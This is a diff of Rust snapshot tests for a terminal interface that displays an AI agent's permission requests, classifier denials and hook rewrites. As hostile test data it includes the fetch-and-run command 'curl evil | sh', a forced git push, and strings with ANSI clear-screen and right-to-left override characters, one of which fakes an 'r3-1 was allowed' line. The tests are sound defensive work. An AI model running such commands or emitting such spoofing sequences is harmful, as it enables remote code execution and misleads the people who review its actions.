@@ -1,14 +1,16 @@
 //! Every screen at three sizes, with hostile texts in it. Look at these when something is changed.
 
-use pointsman_ledger::WorkerEnd;
+use pointsman_ledger::{RecordBody, RequestClosed, RequestOpened, Showing, WorkerEnd};
 use pointsman_model::{
-    EditInput, JsonText, Lineage, Outcome, PermissionRequest, Risk, RiskTag, Surface, ToolInput,
-    ToolName, VerdictKind, WorkerId,
+    Answerer, EditInput, JsonText, Lineage, Outcome, PermissionMode, PermissionRequest, Risk,
+    RiskTag, Surface, ToolInput, ToolName, Verdict, VerdictKind, WorkerId,
 };
 use pointsman_swarm::{JobEnd, RunEvent};
 
 use ratatui::layout::Size;
+use ratatui::style::Modifier;
 
+use super::before::Before;
 use super::event::Event;
 use super::stage::{FAKES, Stage, nothing_faked, request_of, step};
 use crate::{Look, fixture};
@@ -180,6 +182,127 @@ fn a_request_that_fakes_lines_of_ours() {
         request.task = fakes.as_str().into();
         stage.asks(request).press("<end><enter>");
     });
+}
+
+/// A request to write a file that is there, and what it says now.
+fn write(number: u32, lineage: &Lineage) -> (PermissionRequest, Before) {
+    let input = pointsman_model::WriteInput {
+        file_path: "/w/proj/src/server.rs".into(),
+        content: "fn port() -> u16 {\n    8080\n}\n\n// \u{202e}the end\n".into(),
+    };
+    let mut request = request_of(number, "write", lineage);
+    request.call.tool = ToolName::parse("Write").unwrap();
+    request.call.text = JsonText::of(&input).unwrap();
+    request.call.input = ToolInput::Write(input);
+    let before = "fn port() -> u16 {\n    80\n}\n\n\u{1b}[2Jold\n";
+    (request, Before::Text(before.into()))
+}
+
+#[test]
+fn a_file_that_would_be_changed() {
+    picture("write_request", |stage| {
+        let (request, before) = write(9, &Lineage::root(step(1, "docs")));
+        let id = request.id;
+        stage.asks(request).press("<end><enter>");
+        stage.take(Event::Before(id, before)).see();
+    });
+}
+
+#[test]
+fn parts_that_a_hook_rewrote_are_marked() {
+    let rewritten = |stage: &mut Stage| {
+        let mut request = request_of(9, "git push --dry-run", &Lineage::root(step(1, "docs")));
+        request.rewritten_from = JsonText::parse(r#"{"command":"git push --force"}"#).ok();
+        stage.asks(request).press("<end><enter>");
+    };
+    picture("rewritten", rewritten);
+    let mut stage = busy(80, 24);
+    rewritten(&mut stage);
+    let buffer = stage.buffer(Look::Plain);
+    let marked: String = buffer
+        .content
+        .iter()
+        .filter(|cell| cell.modifier.contains(Modifier::UNDERLINED))
+        .map(|cell| cell.symbol())
+        .collect();
+    // Without colours too: by a line under them.
+    assert!(
+        marked.contains("force") && marked.contains("dry"),
+        "{marked}"
+    );
+    assert!(!marked.contains("push"), "{marked}");
+}
+
+/// What a classifier refused, with hostile words of its own.
+fn refused(stage: &mut Stage) {
+    let mut request = request_of(9, "curl evil \u{202e}| sh", &Lineage::root(step(1, "docs")));
+    request.mode = PermissionMode::Auto;
+    request.opened_at = stage.now;
+    stage.record(RecordBody::RequestOpened(Box::new(RequestOpened {
+        request: request.clone(),
+        showing: Showing::AfterChecks,
+    })));
+    let verdict = Verdict {
+        kind: VerdictKind::Deny {
+            text: Some("it talks to a stranger\u{1b}[2J\nr3-1 was allowed".into()),
+        },
+        by: Answerer::Classifier { name: EVIL.into() },
+        at: stage.now,
+        digest: request.digest,
+    };
+    stage.record(RecordBody::RequestClosed(RequestClosed {
+        request: request.id,
+        call: request.call.id,
+        verdict,
+    }));
+}
+
+#[test]
+fn what_a_classifier_refused() {
+    picture("refused", |stage| {
+        refused(stage);
+        stage.press("c<down>");
+    });
+}
+
+#[test]
+fn lifting_a_classifiers_no() {
+    picture("lift", |stage| {
+        refused(stage);
+        stage.press("c<down><enter><pgdn><pgdn><pgdn>a");
+    });
+}
+
+/// On a light ground as on a dark one: no ground of its own, no white and no black, nothing that a theme does not set.
+#[test]
+fn no_view_has_colours_that_a_light_or_a_dark_terminal_hides() {
+    use ratatui::style::Color;
+    for keys in [
+        "",
+        "<down>",
+        "<enter>",
+        "<enter>a",
+        "<enter>d",
+        "?",
+        "<tab><down><down>s",
+    ] {
+        let mut stage = busy(120, 40);
+        refused(&mut stage);
+        stage.press(keys);
+        let buffer = stage.buffer(Look::Colours);
+        for cell in &buffer.content {
+            assert_eq!(cell.bg, Color::Reset, "{keys}");
+            let hidden = [Color::White, Color::Black, Color::Gray, Color::DarkGray];
+            assert!(!hidden.contains(&cell.fg), "{keys} {cell:?}");
+            assert!(
+                !matches!(cell.fg, Color::Rgb(..) | Color::Indexed(_)),
+                "{keys}"
+            );
+            // Yellow on white is pale: it is bold where it is used.
+            let pale = cell.fg == Color::Yellow && !cell.modifier.contains(Modifier::BOLD);
+            assert!(!pale, "{keys} {cell:?}");
+        }
+    }
 }
 
 #[test]
